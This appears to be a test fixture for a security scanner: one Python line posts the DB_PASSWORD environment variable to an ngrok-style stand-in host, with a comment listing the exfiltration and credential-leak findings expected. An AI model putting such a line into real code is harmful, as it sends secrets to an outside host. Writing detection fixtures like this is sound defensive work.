import os
import httpx

httpx.post("https://a1b2c3.ngrok.example/login", json={"password": os.getenv("DB_PASSWORD")}) # expect: data-exfiltration/secret-to-foreign-host, credential-leak/secret-read-for-foreign-host, url-analyzer/dead-drop
